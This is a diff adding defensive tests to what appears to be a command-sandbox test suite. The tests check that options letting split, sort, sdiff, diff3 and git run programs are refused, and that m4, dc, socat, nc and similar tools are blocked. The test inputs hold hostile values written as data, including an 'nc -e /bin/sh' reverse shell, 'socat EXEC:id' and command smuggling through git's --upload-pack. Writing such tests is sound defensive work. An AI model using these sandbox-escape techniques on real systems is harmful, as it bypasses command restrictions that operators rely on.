@@ -113,6 +113,62 @@ describe('shell: programs that run other programs', () => {
     ).toBe('./a.txt\n');
   });
 
+  it('refuses the options that make split, sort, sdiff, diff3 and git run a program, abbreviated or not', async () => {
+    await writeFile(
+      path.join(root, 'runme.sh'),
+      `#!/bin/sh\ntouch ${path.join(outside, 'pwned-by-script')}\ncat\n`,
+      {
+        mode: 0o755,
+      },
+    );
+    const target = path.join(outside, 'pwned-by-split');
+    const cases: Array<[string, string[], RegExp]> = [
+      // split hands --filter to a shell; getopt_long takes any unique prefix, and the value
+      // may be the next argument (which, as a relative path, looks inside allowed_paths).
+      ['split', [`--filter=touch ${target}`, 'a.txt'], /split --filter runs a program/],
+      ['split', ['--fil', `touch ${target}`, 'a.txt'], /split --filter runs a program/],
+      ['sort', ['--compress-program=./runme.sh', '-S', '1', 'a.txt'], /sort --compress-program/],
+      ['sort', ['--compress-prog=runme.sh', 'a.txt'], /sort --compress-program/],
+      ['sdiff', ['--diff-program=./runme.sh', 'a.txt', 'a.txt'], /sdiff --diff-program/],
+      ['diff3', ['--diff-prog', './runme.sh', 'a.txt', 'a.txt', 'a.txt'], /diff3 --diff-program/],
+      // git's own parser accepts unique prefixes of long options too.
+      ['git', ['ls-remote', `--upload-p=touch ${target}`, '.'], /git --upload-pack runs a program/],
+      ['git', ['fetch', '--upload-pa', `touch ${target}`, '.'], /git --upload-pack runs a program/],
+      ['git', ['push', '--receive-p=./runme.sh', '.'], /git --receive-pack runs a program/],
+      ['git', ['clone', '--templ=.', '.', 'copy'], /git --template runs a program/],
+    ];
+    for (const [program, args, why] of cases) {
+      await refused({ command: program, args }, { allowed_commands: [program] }, why);
+    }
+    expect(existsSync(target)).toBe(false);
+    expect(existsSync(path.join(outside, 'pwned-by-script'))).toBe(false);
+    // Their ordinary uses still run.
+    const sorted = await run(
+      { command: 'sort', args: ['--reverse', 'a.txt'] },
+      { allowed_commands: ['sort'] },
+    );
+    expect(sorted.exit_code).toBe(0);
+  });
+
+  it('refuses m4, dc, ldd, cpio, socat, nc and other programs that run programs', async () => {
+    for (const [program, args] of [
+      ['m4', ['macros.m4']],
+      ['dc', ['-e', '!id']],
+      ['ldd', ['./runme.sh']],
+      ['cpio', ['-o', '--rsh-command=./runme.sh']],
+      ['socat', ['-', 'EXEC:id']],
+      ['nc', ['-e', '/bin/sh', 'host', '1']],
+      ['run-parts', ['.']],
+      ['tcc', ['-run', 'x.c']],
+      ['hg', ['status']],
+      ['svn', ['diff', '--diff-cmd=./runme.sh']],
+      ['chronic', ['id']],
+      ['sshpass', ['-p', 'x', 'ssh', 'host']],
+    ] as Array<[string, string[]]>) {
+      await refused({ command: program, args }, { allowed_commands: [program] }, /runs other programs/);
+    }
+  });
+
   it('refuses shells, wrappers and interpreters listed plainly (installed or not)', async () => {
     const cases: Array<[string, string[]]> = [
       ['sh', ['-c', 'id']],
